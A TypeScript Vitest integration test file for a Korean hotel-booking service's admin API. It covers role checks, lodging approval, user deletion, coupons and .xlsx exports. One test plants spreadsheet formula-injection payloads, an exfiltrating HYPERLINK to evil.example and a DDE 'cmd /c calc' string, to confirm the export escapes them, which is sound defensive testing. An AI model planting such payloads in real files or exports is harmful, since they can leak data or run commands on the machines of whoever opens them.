import { ADMIN_MESSAGES } from '@shim/common/admin-messages';
import { CONSOLE_MESSAGES } from '@shim/common/console-messages';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { MESSAGES } from '@shim/common/messages';
import type { Role } from '@shim/common/roles';
import { startTestApp, type TestApp } from '../../../test/harness';
import { createUser, loginAs, tokensByRole } from '../../../test/fixtures';
import { createHotel, stayFromToday } from '../../../test/hotel-fixtures';
import { book, bookingScenario } from '../../../test/booking-fixtures';
import { PinnedClock } from '../../platform/clock';
import { User } from '../users/user.entity';

let app: TestApp;
let tokens: Record<Role, string>;
let admin: string;
/** The file's "now", fixed at its start: a run across midnight (or a month's end) in Seoul reads one day. */
const STARTED = new Date();
const clock = new PinnedClock(STARTED);
beforeAll(async () => {
  app = await startTestApp({}, { clock });
  tokens = await tokensByRole(app);
  admin = tokens.ROLE_ADMIN;
});
afterAll(() => app.close());

const searchNames = async (region: string): Promise<string[]> => {
  const answer = await app.request('POST', '/api/search', {
    body: { region, ...stayFromToday(10), numberOfRooms: 1, numberOfPeople: 2 },
  });
  return answer.status === 204 ? [] : answer.json<Array<{ hName: string }>>().map((hit) => hit.hName);
};
const hotelStatus = async (id: number) =>
  (
    await app.orm.em
      .fork()
      .getConnection()
      .execute<Array<{ status: string; active: boolean }>>(`select status, active from hotels where id = ?`, [id])
  )[0];

const REST_CALLS: Array<[string, string, unknown?]> = [
  ['GET', '/api/admin/users?role=ROLE_PENDING'],
  ['GET', '/api/admin/users/export.xlsx'],
  ['POST', '/api/admin/users/approve-all', { ids: [] }],
  ['POST', '/api/admin/users/reject-all', { ids: [] }],
  ['POST', '/api/admin/users/999999/approve'],
  ['DELETE', '/api/admin/users/999999'],
  ['GET', '/api/admin/hotels/all'],
  ['GET', '/api/admin/hotels/export.xlsx'],
  ['POST', '/api/admin/hotels/approve/999999'],
  ['POST', '/api/admin/hotels/reject/999999'],
  ['POST', '/api/admin/hotels/approve-all', { ids: [] }],
  ['POST', '/api/admin/hotels/reject-all', { ids: [] }],
  ['PUT', '/api/admin/hotels/999999/status', { active: false }],
  ['GET', '/api/admin/coupons'],
  ['POST', '/api/admin/coupons', {}],
  ['DELETE', '/api/admin/coupons/999999'],
  ['POST', '/api/admin/coupons/issue', { userId: 1, couponId: 999999 }],
  ['POST', '/api/admin/coupons/issue-all', { couponId: 999999 }],
  ['GET', '/api/admin/coupons/issued'],
  ['DELETE', '/api/admin/coupons/issued/999999'],
];

const GRAPHQL_CALLS = [
  '{ adminUsers(first: 1) { edges { node { id } } } }',
  'mutation { decideManagers(input: { decision: APPROVE, userIds: [] }) { count } }',
  'mutation { approveManager(input: { userId: 999999 }) { user { id } } }',
  'mutation { deleteUser(input: { userId: 999999 }) { deletedUserId } }',
  '{ adminHotels(first: 1) { edges { node { id } } } }',
  'mutation { decideHotel(input: { hotelId: 999999, decision: APPROVE }) { count } }',
  'mutation { decideHotels(input: { decision: REJECT, hotelIds: [] }) { count } }',
  'mutation { setHotelActive(input: { hotelId: 999999, active: false }) { active } }',
  '{ adminCouponTypes { edges { node { id } } } }',
  '{ issuedCoupons(first: 1) { edges { node { id } } } }',
  'mutation { createCouponType(input: { name: "x", type: FIXED, value: 1, expiryDate: "2999-01-01" }) { coupon { id } } }',
  'mutation { deleteCouponType(input: { couponId: 999999 }) { id } }',
  'mutation { issueCoupon(input: { userId: 1, couponId: 999999 }) { count } }',
  'mutation { issueCouponToAll(input: { couponId: 999999 }) { count } }',
  'mutation { withdrawIssuedCoupon(input: { userCouponId: 999999 }) { id } }',
];

describe('admin access', () => {
  it('refuses members, managers, applicants and visitors on every REST call', async () => {
    for (const [method, path, body] of REST_CALLS) {
      expect((await app.request(method, path, { body })).status, `${method} ${path} anonymous`).toBe(401);
      for (const role of ['ROLE_USER', 'ROLE_MANAGER', 'ROLE_PENDING'] as const) {
        const answer = await app.request(method, path, { body, token: tokens[role] });
        expect(answer.status, `${method} ${path} ${role}`).toBe(403);
      }
      const allowed = await app.request(method, path, { body, token: admin });
      expect(allowed.status, `${method} ${path} admin`).toBeLessThan(500);
      expect([401, 403], `${method} ${path} admin`).not.toContain(allowed.status);
    }
  });

  it('refuses them on every GraphQL field', async () => {
    for (const query of GRAPHQL_CALLS) {
      expect((await app.graphql(query)).errors?.[0]?.extensions?.code, query).toBe('UNAUTHENTICATED');
      for (const role of ['ROLE_USER', 'ROLE_MANAGER', 'ROLE_PENDING'] as const) {
        const code = (await app.graphql(query, {}, tokens[role])).errors?.[0]?.extensions?.code;
        expect(['FORBIDDEN', 'UNAUTHENTICATED'], `${query} ${role}`).toContain(code);
      }
      const codes = (await app.graphql(query, {}, admin)).errors?.map((error) => error.extensions?.code) ?? [];
      expect(codes, query).not.toContain('FORBIDDEN');
      expect(codes, query).not.toContain('INTERNAL_SERVER_ERROR');
    }
  });
});

describe('lodging approval and visibility', () => {
  it('approves into search at once, rejects for good, and the manager sees the status', async () => {
    const approved = await createHotel(app.orm, { name: '승인될 한옥', address: '가온시 다온구 1', status: 'PENDING' });
    const rejected = await createHotel(app.orm, { name: '거절될 한옥', address: '가온시 다온구 2', status: 'PENDING' });
    expect(await searchNames('가온시')).toEqual([]);

    const pending = await app.request('GET', '/api/admin/hotels/all?status=PENDING&searchQuery=가온시', {
      token: admin,
    });
    expect(
      pending
        .json<Array<{ hId: number; status: string; type: string }>>()
        .map((row) => row.hId)
        .sort(),
    ).toEqual([approved.hotel.id, rejected.hotel.id].sort());
    expect(pending.json<Array<{ status: string; type: string }>>()[0]).toMatchObject({ status: '대기', type: 'Hotel' });

    expect(await app.request('POST', `/api/admin/hotels/approve/${approved.hotel.id}`, { token: admin })).toMatchObject(
      {
        status: 200,
        body: { message: ADMIN_MESSAGES.hotelApproved },
      },
    );
    expect(await searchNames('가온시')).toEqual(['승인될 한옥']);
    const gql = await app.graphql<{ decideHotel: { count: number } }>(
      'mutation($id: Int!) { decideHotel(input: { hotelId: $id, decision: REJECT }) { count } }',
      { id: rejected.hotel.id },
      admin,
    );
    expect(gql.data?.decideHotel.count).toBe(1);
    expect(await hotelStatus(rejected.hotel.id)).toMatchObject({ status: 'REJECTED' });
    expect(await searchNames('가온시')).toEqual(['승인될 한옥']);
    // Decided once: a second decision is a conflict, an unknown lodging is 404.
    expect(await app.request('POST', `/api/admin/hotels/approve/${rejected.hotel.id}`, { token: admin })).toMatchObject(
      {
        status: 409,
        body: { message: ADMIN_MESSAGES.hotelNotPending },
      },
    );
    expect((await app.request('POST', '/api/admin/hotels/reject/99999999', { token: admin })).status).toBe(404);
    const rows = await app.request('GET', '/api/admin/hotels/all?searchQuery=거절될', { token: admin });
    expect(rows.json<Array<{ status: string }>>()[0]?.status).toBe('거절');
  });

  it('shows its manager a rejected lodging as 거절 / REJECTED with the reason, over REST and GraphQL', async () => {
    const owner = await createUser(app.orm, 'ROLE_MANAGER');
    const ownerToken = (await loginAs(app, owner.email)).accessToken;
    const one = await createHotel(app.orm, {
      name: '사유 한옥',
      address: '라온시 한울구 1',
      status: 'PENDING',
      manager: owner,
    });
    const two = await createHotel(app.orm, {
      name: '무사유 한옥',
      address: '라온시 한울구 2',
      status: 'PENDING',
      manager: owner,
    });
    const tooLong = await app.request('POST', `/api/admin/hotels/reject/${one.hotel.id}`, {
      token: admin,
      body: { reason: '가'.repeat(501) },
    });
    expect(tooLong).toMatchObject({ status: 400, body: { message: CONSOLE_MESSAGES.rejectionReasonTooLong } });
    expect(await hotelStatus(one.hotel.id)).toMatchObject({ status: 'PENDING' });

    const rejected = await app.request('POST', `/api/admin/hotels/reject/${one.hotel.id}`, {
      token: admin,
      body: { reason: '  사진이 숙소와 다릅니다. ' },
    });
    expect(rejected.status).toBe(200);
    // The documented call has no body: the reason is optional.
    expect((await app.request('POST', `/api/admin/hotels/reject/${two.hotel.id}`, { token: admin })).status).toBe(200);

    const rest = (await app.request('GET', '/api/manager/hotels', { token: ownerToken })).json<
      Array<{ id: number; status: string; statusCode: string; rejectionReason: string | null }>
    >();
    expect(rest.find((hotel) => hotel.id === one.hotel.id)).toMatchObject({
      status: '거절',
      statusCode: 'REJECTED',
      rejectionReason: '사진이 숙소와 다릅니다.',
    });
    expect(rest.find((hotel) => hotel.id === two.hotel.id)).toMatchObject({ status: '거절', rejectionReason: null });
    const gql = await app.graphql<{ managerHotel: { status: string; rejectionReason: string | null } }>(
      'query($id: Int!) { managerHotel(id: $id) { status rejectionReason } }',
      { id: one.hotel.id },
      ownerToken,
    );
    expect(gql.data?.managerHotel).toEqual({ status: 'REJECTED', rejectionReason: '사진이 숙소와 다릅니다.' });
  });

  it('approves or rejects all in one transaction: all the ids or none', async () => {
    const a = await createHotel(app.orm, { name: '일괄 A', address: '나온시 한울구 1', status: 'PENDING' });
    const b = await createHotel(app.orm, { name: '일괄 B', address: '나온시 한울구 2', status: 'PENDING' });
    const done = await createHotel(app.orm, { name: '일괄 C', address: '나온시 한울구 3', status: 'APPROVED' });
    const mixed = await app.request('POST', '/api/admin/hotels/approve-all', {
      token: admin,
      body: { ids: [a.hotel.id, b.hotel.id, done.hotel.id] },
    });
    expect(mixed).toMatchObject({ status: 409, body: { message: ADMIN_MESSAGES.bulkChanged } });
    expect(await hotelStatus(a.hotel.id)).toMatchObject({ status: 'PENDING' });
    expect(await hotelStatus(b.hotel.id)).toMatchObject({ status: 'PENDING' });

    const all = await app.request('POST', '/api/admin/hotels/approve-all', {
      token: admin,
      body: { ids: [a.hotel.id, b.hotel.id] },
    });
    expect(all).toMatchObject({ status: 200, body: { count: 2 } });
    expect((await searchNames('나온시')).sort()).toEqual(['일괄 A', '일괄 B', '일괄 C']);

    const c = await createHotel(app.orm, { name: '일괄 D', address: '나온시 한울구 4', status: 'PENDING' });
    const gql = await app.graphql<{ decideHotels: { count: number } }>(
      'mutation($ids: [Int!]!) { decideHotels(input: { decision: REJECT, hotelIds: $ids }) { count } }',
      { ids: [c.hotel.id] },
      admin,
    );
    expect(gql.data?.decideHotels.count).toBe(1);
    expect(await hotelStatus(c.hotel.id)).toMatchObject({ status: 'REJECTED' });
    expect(
      (await app.request('POST', '/api/admin/hotels/reject-all', { token: admin, body: { ids: ['x'] } })).status,
    ).toBe(400);
  });

  it('takes a lodging out of search and back, REST and GraphQL', async () => {
    const { hotel } = await createHotel(app.orm, { name: '토글 호텔', address: '다온시 새봄구 1' });
    expect(await searchNames('다온시')).toEqual(['토글 호텔']);
    const off = await app.request('PUT', `/api/admin/hotels/${hotel.id}/status`, {
      token: admin,
      body: { active: false },
    });
    expect(off).toMatchObject({ status: 200, body: { active: false } });
    expect(await searchNames('다온시')).toEqual([]);
    const on = await app.graphql<{ setHotelActive: { active: boolean } }>(
      'mutation($id: Int!) { setHotelActive(input: { hotelId: $id, active: true }) { hotelId active } }',
      { id: hotel.id },
      admin,
    );
    expect(on.data?.setHotelActive.active).toBe(true);
    expect(await searchNames('다온시')).toEqual(['토글 호텔']);
    expect(
      await app.request('PUT', `/api/admin/hotels/${hotel.id}/status`, { token: admin, body: { active: 'no' } }),
    ).toMatchObject({ status: 400, body: { message: ADMIN_MESSAGES.activeRequired } });
    expect(
      (await app.request('PUT', '/api/admin/hotels/99999999/status', { token: admin, body: { active: true } })).status,
    ).toBe(404);
  });

  it('lists by name or region and type, with the month revenue net of refunds, rating and bookings', async () => {
    const scenario = await bookingScenario(app, {}, { name: '매출 펜션', address: '라온시 별빛구 1', type: 'PENSION' });
    const owner = await createUser(app.orm, 'ROLE_MANAGER', { name: '라온관리' });
    const motel = await createHotel(app.orm, {
      name: '라온 모텔',
      address: '라온시 별빛구 2',
      type: 'MOTEL',
      reviews: [4, 5],
      manager: owner,
    });
    const first = await book(app, scenario.body(10), scenario.token);
    await book(app, scenario.body(12), scenario.token);
    // A partial refund of the first payment this month counts against the month's revenue.
    await app.orm.em
      .fork()
      .getConnection()
      .execute(`update payments set canceled_amount = 30000 where id = ?`, [first.completion.paymentId]);
    const rows = (
      await app.request('GET', '/api/admin/hotels/all?searchQuery=라온시&types=PENSION', { token: admin })
    ).json<Array<Record<string, unknown>>>();
    expect(rows).toEqual([
      expect.objectContaining({
        hName: '매출 펜션',
        type: 'Pension',
        region: '라온시 별빛구',
        monthlyRevenue: first.completion.amount * 2 - 30000,
        bookingCount: 2,
        averageRating: 0,
        active: true,
        status: '승인',
      }),
    ]);
    const gql = await app.graphql<{ adminHotels: { edges: Array<{ node: Record<string, unknown> }> } }>(
      `{ adminHotels(filter: { searchQuery: "라온", types: [MOTEL] }) {
          edges { node { name type avgScore bookingCount monthlyRevenue status active manager { name } } }
          pageInfo { hasNextPage } } }`,
      {},
      admin,
    );
    expect(gql.data?.adminHotels.edges.map((edge) => edge.node)).toEqual([
      {
        name: '라온 모텔',
        type: 'MOTEL',
        avgScore: 4.5,
        bookingCount: 0,
        monthlyRevenue: 0,
        status: 'APPROVED',
        active: true,
        manager: { name: '라온관리' },
      },
    ]);
    // The admin list's figures are the administrator's, even to the lodging's own manager.
    const ownerToken = (await loginAs(app, owner.email)).accessToken;
    const figures = await app.graphql(
      `query($id: Int!) { hotel(id: $id) { bookingCount } }`,
      { id: motel.hotel.id },
      ownerToken,
    );
    expect(figures.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const reached = await app.graphql<{ hotel: Record<string, unknown> }>(
      `query($id: Int!) { hotel(id: $id) { bookingCount monthlyRevenue manager { email } } }`,
      { id: scenario.hotel.id },
      admin,
    );
    expect(reached.errors).toBeUndefined();
    expect(reached.data?.hotel).toEqual({
      bookingCount: 2,
      monthlyRevenue: first.completion.amount * 2 - 30000,
      manager: null,
    });
    expect((await app.request('GET', '/api/admin/hotels/all?types=CASTLE', { token: admin })).status).toBe(400);
  });

  it("counts the month revenue by the clock's month in Seoul, not the server's", async () => {
    const { hotel, rooms } = await createHotel(app.orm, { name: '경계 호텔', address: '경계시 자정구 1' });
    const connection = app.orm.em.fork().getConnection();
    // Paid at 23:30 on 03-31 and at 00:30 on 04-01 in Seoul: both on 03-31 in UTC.
    const payments: Array<[string, number, string]> = [
      ['edge-march', 10000, '2026-03-31T14:30:00Z'],
      ['edge-april', 25000, '2026-03-31T15:30:00Z'],
    ];
    for (const [orderId, amount, approvedAt] of payments) {
      const [reservation] = await connection.execute<Array<{ id: number }>>(
        `insert into reservations (order_id, guest_name, hotel_id, room_id, check_in, check_out, room_count, persons,
           base_price, taxes, total_amount, status, hold_expires_at, confirmed_at, created_at)
         values (?, '손님', ?, ?, '2026-04-10', '2026-04-11', 1, 2, ?, 0, ?, 'CONFIRMED', ?, ?, ?) returning id`,
        [orderId, hotel.id, rooms[0]!.id, amount, amount, approvedAt, approvedAt, approvedAt],
      );
      await connection.execute(
        `insert into payments (reservation_id, payment_key, order_id, amount, status, approved_at, created_at)
         values (?, ?, ?, ?, 'DONE', ?, ?)`,
        [reservation!.id, `key-${orderId}`, orderId, amount, approvedAt, approvedAt],
      );
    }
    const revenue = async () =>
      (await app.request('GET', '/api/admin/hotels/all?searchQuery=경계시', { token: admin })).json<
        Array<{ monthlyRevenue: number }>
      >()[0]!.monthlyRevenue;
    try {
      clock.set('2026-04-01T00:10:00+09:00');
      expect(await revenue()).toBe(25000);
      clock.set('2026-03-31T23:50:00+09:00');
      expect(await revenue()).toBe(10000);
    } finally {
      clock.set(STARTED);
    }
  });

  it('pages the GraphQL list by cursor', async () => {
    for (const n of [1, 2, 3]) await createHotel(app.orm, { name: `페이지 ${n}`, address: '마루시 가람구 1' });
    const page = (after: string | null) =>
      app.graphql<{
        adminHotels: {
          edges: Array<{ node: { name: string } }>;
          pageInfo: { hasNextPage: boolean; endCursor: string };
        };
      }>(
        'query($after: String) { adminHotels(first: 2, after: $after, filter: { searchQuery: "마루시" }) { edges { node { name } } pageInfo { hasNextPage endCursor } } }',
        { after },
        admin,
      );
    const one = (await page(null)).data!.adminHotels;
    expect(one.edges.map((edge) => edge.node.name)).toEqual(['페이지 3', '페이지 2']);
    expect(one.pageInfo.hasNextPage).toBe(true);
    const two = (await page(one.pageInfo.endCursor)).data!.adminHotels;
    expect(two.edges.map((edge) => edge.node.name)).toEqual(['페이지 1']);
    expect(two.pageInfo.hasNextPage).toBe(false);
  });
});

describe('manager applications and users', () => {
  it('approves an application, after which the manager logs in; all-or-none for several', async () => {
    const applicant = await createUser(app.orm, 'ROLE_PENDING', { name: '신청자' });
    const listed = await app.request('GET', '/api/admin/users?role=PENDING', { token: admin });
    expect(listed.json<Array<{ id: number }>>().map((row) => row.id)).toContain(applicant.id);
    expect(
      (await app.request('POST', '/api/auth/login', { body: { email: applicant.email, password: 'Passw0rd!' } }))
        .status,
    ).not.toBe(200);
    expect((await app.request('POST', `/api/admin/users/${applicant.id}/approve`, { token: admin })).status).toBe(200);
    const login = await loginAs(app, applicant.email);
    const me = await app.request('GET', '/api/auth/me', { token: login.accessToken });
    expect(me.json<{ role: string }>().role).toBe('ROLE_MANAGER');

    const second = await createUser(app.orm, 'ROLE_PENDING');
    const member = await createUser(app.orm, 'ROLE_USER');
    const mixed = await app.request('POST', '/api/admin/users/reject-all', {
      token: admin,
      body: { ids: [second.id, member.id] },
    });
    expect(mixed.status).toBe(409);
    const stillThere = await app.request('GET', '/api/admin/users?role=ROLE_PENDING', { token: admin });
    expect(stillThere.json<Array<{ id: number }>>().map((row) => row.id)).toContain(second.id);
    const gql = await app.graphql<{ decideManagers: { count: number } }>(
      'mutation($ids: [Int!]!) { decideManagers(input: { decision: REJECT, userIds: $ids }) { count } }',
      { ids: [second.id] },
      admin,
    );
    expect(gql.data?.decideManagers.count).toBe(1);
    const after = await app.request('GET', '/api/admin/users?role=ALL', { token: admin });
    const ids = after.json<Array<{ id: number }>>().map((row) => row.id);
    expect(ids).not.toContain(second.id);
    expect(ids).toContain(member.id);
  });

  it('lists with role tabs, search and the social provider', async () => {
    const kakao = await createUser(app.orm, 'ROLE_USER', { name: '카카오회원' });
    await app.orm.em
      .fork()
      .getConnection()
      .execute(
        `insert into social_accounts (provider, subject, user_id, created_at) values ('kakao', 'k-1', ?, now())`,
        [kakao.id],
      );
    const rows = await app.request(
      'GET',
      `/api/admin/users?role=USER&searchQuery=${encodeURIComponent('카카오회원')}`,
      {
        token: admin,
      },
    );
    expect(rows.json()).toEqual([expect.objectContaining({ id: kakao.id, social: 'kakao', role: 'ROLE_USER' })]);
    const gql = await app.graphql<{ adminUsers: { edges: Array<{ node: { social: string | null } }> } }>(
      'query($q: String) { adminUsers(role: ROLE_USER, searchQuery: $q) { edges { node { id social } } } }',
      { q: '카카오회원' },
      admin,
    );
    expect(gql.data?.adminUsers.edges.map((edge) => edge.node.social)).toEqual(['kakao']);
    expect((await app.request('GET', '/api/admin/users?role=NOBODY', { token: admin })).status).toBe(400);
  });

  it('deletes a member: no more login, sessions end, bookings stay; never an admin or oneself', async () => {
    const scenario = await bookingScenario(app);
    const booked = await book(app, scenario.body(10), scenario.token);
    const deleted = await app.request('DELETE', `/api/admin/users/${scenario.member.id}`, { token: admin });
    expect(deleted.status).toBe(200);
    expect((await app.request('GET', '/api/users/info', { token: scenario.token })).status).toBe(401);
    expect(
      (await app.request('POST', '/api/auth/login', { body: { email: scenario.member.email, password: 'Passw0rd!' } }))
        .status,
    ).toBe(401);
    const [reservation] = await app.orm.em
      .fork()
      .getConnection()
      .execute<Array<{ status: string; user_id: number | null }>>(
        `select status, user_id from reservations where id = ?`,
        [booked.completion.reservationId],
      );
    expect(reservation).toEqual({ status: 'CONFIRMED', user_id: null });

    const otherAdmin = await createUser(app.orm, 'ROLE_ADMIN');
    expect(await app.request('DELETE', `/api/admin/users/${otherAdmin.id}`, { token: admin })).toMatchObject({
      status: 403,
      body: { message: MESSAGES.cannotDeleteAdmin },
    });
    const me = (await app.request('GET', '/api/auth/me', { token: admin })).json<{ id: number }>();
    expect(await app.request('DELETE', `/api/admin/users/${me.id}`, { token: admin })).toMatchObject({
      status: 403,
      body: { message: ADMIN_MESSAGES.cannotDeleteSelf },
    });
  });

  it('exports users and lodgings as .xlsx with Korean headers', async () => {
    for (const [path, header] of [
      ['/api/admin/users/export.xlsx', ['번호', '이름', '이메일']],
      ['/api/admin/hotels/export.xlsx', ['번호', '숙소명', '유형']],
    ] as const) {
      const response = await fetch(`${app.url}${path}`, { headers: { Authorization: `Bearer ${admin}` } });
      expect(response.headers.get('content-type')).toContain('spreadsheetml');
      const book = XLSX.read(Buffer.from(await response.arrayBuffer()));
      const rows = XLSX.utils.sheet_to_json<string[]>(book.Sheets[book.SheetNames[0]!]!, { header: 1 });
      expect(rows[0]!.slice(0, 3)).toEqual(header);
      expect(rows.length).toBeGreaterThan(1);
    }
    const sheetAt = async (path: string) => {
      const response = await fetch(`${app.url}${path}`, { headers: { Authorization: `Bearer ${admin}` } });
      const book = XLSX.read(Buffer.from(await response.arrayBuffer()), { cellNF: true, cellStyles: true });
      return book.Sheets[book.SheetNames[0]!]!;
    };
    // 가입일 (I) is a real date; 이번 달 매출 (H) won and 예약수 (J) a count, as formatted numbers.
    const usersSheet = await sheetAt('/api/admin/users/export.xlsx');
    expect(usersSheet['I1']).toMatchObject({ v: '가입일' });
    expect(usersSheet['I2']).toMatchObject({
      t: 'n',
      z: 'yyyy-mm-dd',
      w: expect.stringMatching(/^\d{4}-\d{2}-\d{2}$/),
    });
    // The e-mail column is fitted to its addresses, wider than the default.
    expect(usersSheet['!cols']![2]!.wch).toBeGreaterThan(10);
    const hotelsSheet = await sheetAt('/api/admin/hotels/export.xlsx');
    expect(hotelsSheet['H1']).toMatchObject({ v: '이번 달 매출(원)' });
    expect(hotelsSheet['H2']).toMatchObject({ t: 'n', z: '#,##0"원"' });
    expect(hotelsSheet['J2']).toMatchObject({ t: 'n', z: '#,##0' });
  });

  it('writes a lodging or company name that reads as a formula as plain text starting with an apostrophe', async () => {
    const payload = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
    const { hotel } = await createHotel(app.orm, { name: payload });
    const applicant = await createUser(app.orm, 'ROLE_PENDING', { name: '신청자' });
    await app.orm.em.fork().nativeUpdate(User, { id: applicant.id }, { companyName: '@SUM(1+1)*cmd|"/c calc"!A0' });
    const cellsOf = async (path: string, id: number, column: string) => {
      const response = await fetch(`${app.url}${path}`, { headers: { Authorization: `Bearer ${admin}` } });
      const book = XLSX.read(Buffer.from(await response.arrayBuffer()), { cellFormula: true });
      const sheet = book.Sheets[book.SheetNames[0]!]!;
      const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(sheet);
      const at = rows.findIndex((row) => row['번호'] === id);
      const col = Object.keys(rows[0]!).indexOf(column);
      return { text: rows[at]![column], cell: sheet[XLSX.utils.encode_cell({ r: at + 1, c: col })] as XLSX.CellObject };
    };
    const lodging = await cellsOf('/api/admin/hotels/export.xlsx', hotel.id, '숙소명');
    expect(lodging.text).toBe(`'${payload}`);
    expect(lodging.cell).toMatchObject({ t: 's' });
    expect(lodging.cell.f).toBeUndefined();
    const company = await cellsOf('/api/admin/users/export.xlsx', applicant.id, '회사명');
    expect(company.text).toBe(`'@SUM(1+1)*cmd|"/c calc"!A0`);
    expect(company.cell).toMatchObject({ t: 's' });
    const numbers = await cellsOf('/api/admin/hotels/export.xlsx', hotel.id, '번호');
    expect(numbers.cell).toMatchObject({ t: 'n', v: hotel.id });
  });
});

describe('coupons', () => {
  const create = (body: Record<string, unknown>) => app.request('POST', '/api/admin/coupons', { token: admin, body });

  it('creates a coupon type only with every field, PERCENT 1–100, and deletes it', async () => {
    expect(await create({ name: '가을', type: 'PERCENT', value: 10 })).toMatchObject({
      status: 400,
      body: { message: ADMIN_MESSAGES.couponFieldsRequired },
    });
    for (const value of [0, 101, 2.5]) {
      expect(await create({ name: '가을', type: 'PERCENT', value, expiryDate: '2999-12-31' })).toMatchObject({
        status: 400,
        body: { message: ADMIN_MESSAGES.couponPercentRange },
      });
    }
    expect(await create({ name: '가을', type: 'FIXED', value: 5000, expiryDate: '2001-01-01' })).toMatchObject({
      status: 400,
      body: { message: ADMIN_MESSAGES.couponExpiryInvalid },
    });
    const made = await create({ name: '가을 5,000원', type: 'FIXED', value: 5000, expiryDate: '2999-12-31' });
    expect(made).toMatchObject({
      status: 200,
      body: { name: '가을 5,000원', type: 'FIXED', discountValue: 5000, expiryDate: '2999-12-31' },
    });
    const id = made.json<{ id: number }>().id;
    const listed = await app.request('GET', '/api/admin/coupons', { token: admin });
    expect(listed.json<Array<{ id: number }>>().map((row) => row.id)).toContain(id);
    // GraphQL pages the same list newest first; REST stays the whole array.
    type Types = {
      adminCouponTypes: { totalCount: number; pageInfo: { endCursor: string }; edges: Array<{ node: { id: number } }> };
    };
    const query = `query($after: String) { adminCouponTypes(first: 1, after: $after) {
      totalCount pageInfo { endCursor } edges { node { id } } } }`;
    const page = (await app.graphql<Types>(query, {}, admin)).data!.adminCouponTypes;
    expect(page.edges.map((edge) => edge.node.id)).toEqual([listed.json<Array<{ id: number }>>()[0]?.id]);
    expect(page.totalCount).toBe(listed.json<unknown[]>().length);
    const next = (await app.graphql<Types>(query, { after: page.pageInfo.endCursor }, admin)).data!.adminCouponTypes;
    expect(next.edges.map((edge) => edge.node.id)).toEqual(
      listed.json<Array<{ id: number }>>()[1] ? [listed.json<Array<{ id: number }>>()[1]!.id] : [],
    );
    expect((await app.request('DELETE', `/api/admin/coupons/${id}`, { token: admin })).status).toBe(200);
    expect((await app.request('DELETE', `/api/admin/coupons/${id}`, { token: admin })).status).toBe(404);
  });

  it('issues to every member exactly once, however often repeated; the member sees it', async () => {
    const members = await Promise.all([createUser(app.orm), createUser(app.orm)]);
    const manager = await createUser(app.orm, 'ROLE_MANAGER');
    const gql = await app.graphql<{ createCouponType: { coupon: { id: number } } }>(
      'mutation { createCouponType(input: { name: "전원 3,000원", type: FIXED, value: 3000, expiryDate: "2999-01-31" }) { coupon { id name } } }',
      {},
      admin,
    );
    const couponId = gql.data!.createCouponType.coupon.id;
    const [first, again] = await Promise.all([
      app.request('POST', '/api/admin/coupons/issue-all', { token: admin, body: { couponId } }),
      app.request('POST', '/api/admin/coupons/issue-all', { token: admin, body: { couponId } }),
    ]);
    const counts = [first.json<{ count: number }>().count, again.json<{ count: number }>().count];
    const [memberRow] = await app.orm.em
      .fork()
      .getConnection()
      .execute<Array<{ members: number }>>(`select count(*)::int as members from users where role = 'ROLE_USER'`);
    const memberCount = memberRow!.members;
    expect(counts.sort()).toEqual([0, memberCount]);
    const repeat = await app.graphql<{ issueCouponToAll: { count: number } }>(
      'mutation($id: Int!) { issueCouponToAll(input: { couponId: $id }) { count } }',
      { id: couponId },
      admin,
    );
    expect(repeat.data?.issueCouponToAll.count).toBe(0);
    const [copyRow] = await app.orm.em
      .fork()
      .getConnection()
      .execute<Array<{ copies: number; holders: number }>>(
        `select count(*)::int as copies, count(distinct user_id)::int as holders from user_coupons where coupon_id = ?`,
        [couponId],
      );
    expect([copyRow!.copies, copyRow!.holders]).toEqual([memberCount, memberCount]);

    const { accessToken } = await loginAs(app, members[0]!.email);
    const mine = await app.request('GET', '/api/coupons/my-coupons', { token: accessToken });
    expect(mine.json<Array<{ name: string }>>().map((coupon) => coupon.name)).toContain('전원 3,000원');
    // One member at a time: members only, once.
    expect(
      await app.request('POST', '/api/admin/coupons/issue', {
        token: admin,
        body: { userId: members[1]!.id, couponId },
      }),
    ).toMatchObject({ status: 409, body: { message: ADMIN_MESSAGES.couponAlreadyIssued } });
    expect(
      await app.request('POST', '/api/admin/coupons/issue', { token: admin, body: { userId: manager.id, couponId } }),
    ).toMatchObject({ status: 409, body: { message: ADMIN_MESSAGES.couponIssueMemberOnly } });
  });

  it('issues to one member, lists issued coupons and withdraws an unused one', async () => {
    const member = await createUser(app.orm, 'ROLE_USER', { name: '쿠폰회원' });
    const made = await create({ name: '단골 10%', type: 'PERCENT', value: 10, expiryDate: '2999-06-30' });
    const couponId = made.json<{ id: number }>().id;
    expect(
      await app.request('POST', '/api/admin/coupons/issue', { token: admin, body: { userId: member.id } }),
    ).toMatchObject({ status: 400, body: { message: ADMIN_MESSAGES.couponSelectRequired } });
    expect(
      (await app.request('POST', '/api/admin/coupons/issue', { token: admin, body: { userId: member.id, couponId } }))
        .status,
    ).toBe(200);
    const issued = await app.request('GET', '/api/admin/coupons/issued', { token: admin });
    expect(issued.status, JSON.stringify(issued.body)).toBe(200);
    const row = issued.json<Array<Record<string, unknown>>>().find((r) => r.userId === member.id);
    expect(row).toMatchObject({ userName: '쿠폰회원', userEmail: member.email, couponName: '단골 10%', used: false });
    const gql = await app.graphql<{
      issuedCoupons: { edges: Array<{ node: { id: number; issuedAt: string } & Record<string, unknown> }> };
    }>(
      `{ issuedCoupons(first: 5) { edges { node {
          id issuedAt usedAt isExpired user { name email } coupon { id name issuedCount system } } } } }`,
      {},
      admin,
    );
    const node = gql.data?.issuedCoupons.edges.find((edge) => edge.node.id === row!.userCouponId)?.node;
    // One issued-coupon type: its holder and its kind are links, the kind's counts the administrator's.
    expect(node).toMatchObject({
      usedAt: null,
      isExpired: false,
      user: { name: '쿠폰회원', email: member.email },
      coupon: { id: couponId, name: '단골 10%', issuedCount: 1, system: false },
    });
    // Issued at the app clock's time, not the database's.
    expect(new Date(node!.issuedAt).getTime()).toBe(STARTED.getTime());
    expect(
      (await app.request('DELETE', `/api/admin/coupons/issued/${String(row!.userCouponId)}`, { token: admin })).status,
    ).toBe(200);
    const { accessToken } = await loginAs(app, member.email);
    const mine = await app.request('GET', '/api/coupons/my-coupons', { token: accessToken });
    expect(mine.json<Array<{ name: string }>>().map((coupon) => coupon.name)).not.toContain('단골 10%');
    expect(
      (await app.request('DELETE', `/api/admin/coupons/issued/${String(row!.userCouponId)}`, { token: admin })).status,
    ).toBe(404);
  });
});
